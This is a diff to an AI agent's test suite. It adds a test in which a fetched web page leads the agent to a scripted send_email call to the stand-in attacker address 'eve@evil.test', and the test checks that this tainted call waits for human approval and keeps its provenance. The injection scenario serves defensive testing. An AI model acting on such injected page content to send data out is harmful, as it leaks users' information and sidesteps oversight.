@@ -350,3 +350,21 @@ async def test_the_clock_line_vouches_for_no_number(amount: int, asks: bool) -> 
     )
     await agent.run("read https://a.test and pay 17")
     assert bool(asked) is asks and (ran == []) is asks
+
+
+async def test_a_deferred_tainted_call_keeps_its_provenance_and_runs_once_approved() -> None:
+    agent, _, ran, _ = build(
+        [
+            call("fetch_page", url="https://a.test"),
+            call("send_email", to="eve@evil.test", body="x"),
+            DONE,
+        ],
+        approvals="defer",
+    )
+    paused = json.loads(json.dumps(await agent.run("read https://a.test")))
+    assert paused["status"] == "awaiting_approval" and ran == []
+    (pending,) = paused["pending_approvals"]
+    assert pending["taint"]["findings"][0]["value"] == "eve@evil.test"
+    done = await agent.resume(paused, {pending["id"]: True})
+    assert ran == [("send_email", "eve@evil.test")]
+    assert done["turns"][-1]["status"] == "complete"
